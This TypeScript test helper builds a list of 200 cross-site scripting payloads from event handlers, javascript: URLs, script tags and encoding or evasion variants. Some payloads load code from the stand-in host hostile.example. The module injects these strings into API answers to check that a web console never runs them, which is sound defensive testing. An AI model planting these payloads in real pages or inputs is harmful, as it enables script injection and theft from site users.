import * as z from 'zod/mini'
import { operations } from '#shared/contract/table'
import type { Operation } from '#shared/contract/operation'

/** The function of the page that every payload tries to call. */
export const CALLED = 'hostile'
/** The host that every payload tries to load from. */
export const HOST = 'hostile.example'
const CALL = `top.${CALLED}()`

/** One for each way in which a text can become a program. */
const VECTORS = [
  `<script>${CALL}</script>`,
  `<script src="https://${HOST}/a.js"></script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<a href="javascript:${CALL}">pay</a>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `" onmouseover="${CALL}" autofocus onfocus="${CALL}`,
  `' onmouseover='${CALL}' autofocus onfocus='${CALL}`,
  `</title></textarea></style><script>${CALL}</script>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<body onload=${CALL} onpageshow=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<object data="javascript:${CALL}"></object>`,
  `<base href="https://${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href="https://${HOST}/a.css">`,
  `<form action="javascript:${CALL}"><button autofocus>pay</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `{{constructor.constructor('${CALL}')()}}\${${CALL}}`,
  `__proto__`,
]

/** The same text as programs of different care would let it through. */
const FORMS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll(CALL.toUpperCase(), CALL),
  (text) => `">${text}`,
  (text) => `${text.replaceAll(' ', '\n')}\n`,
  (text) => `&quot;${text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}`,
  (text) => encodeURIComponent(`"${text}`),
  (text) => `\u202e${text}\u200b`,
  (text) => `${'wide '.repeat(200)}${text}`,
]

/** 200 texts, each of which runs a program in a page that takes it for more than a text. */
export const PAYLOADS: readonly string[] = FORMS.flatMap((form) => VECTORS.map(form))

interface Counted {
  /** How many texts of answers were replaced. */
  texts: number
  /** The payloads that were used. */
  readonly used: Set<string>
}

/** How far the texts of an answer are replaced: only where the console still reads the answer, or all of them. */
export type Reach = 'readable' | 'all'

/** Replaces the texts of answers, one payload after the other. */
export function hostileAnswers(reach: Reach, counted: Counted) {
  let next = 0
  const payload = (): string => {
    const text = PAYLOADS[next++ % PAYLOADS.length] ?? ''
    counted.texts += 1
    counted.used.add(text)
    return text
  }
  const everywhere = (value: unknown): unknown => mapTexts(value, [], () => payload())
  return (line: Operation, data: unknown): unknown => {
    if (reach === 'all') return everywhere(data)
    const takes = new Map<string, boolean>()
    return mapTexts(data, [], (text, path) => {
      const field = fieldOf(path)
      const known = takes.get(field) ?? z.safeParse(line.answer, replaced(data, path, '<b>any text</b>')).success
      takes.set(field, known)
      return known ? payload() : text
    })
  }
}

/** The operation of a call; undefined for what is none, such as a picture. */
export function operationOf(method: string, pathname: string): Operation | undefined {
  const path = pathname.replace(/^.*\/api\/v1/, '')
  return operations.find(
    (line) => line.method === method && new RegExp(`^${line.path.replaceAll(/\{\w+\}/g, '[^/]+')}$`).test(path),
  )
}

export type Path = readonly (string | number)[]

/** A value with each text in it changed. */
export function mapTexts(value: unknown, path: Path, change: (text: string, path: Path) => string): unknown {
  if (typeof value === 'string') return change(value, path)
  if (Array.isArray(value)) return value.map((item: unknown, place) => mapTexts(item, [...path, place], change))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([name, field]) => [name, mapTexts(field, [...path, name], change)]),
  )
}

/** The schema's name of a field: the same for each item of a list. */
export const fieldOf = (path: Path): string => path.map((step) => (typeof step === 'number' ? '*' : step)).join('.')

/** A value with the text at one place replaced. */
export function replaced(value: unknown, wanted: Path, text: string): unknown {
  const place = wanted.join('\n')
  return mapTexts(value, [], (old, path) => (path.join('\n') === place ? text : old))
}
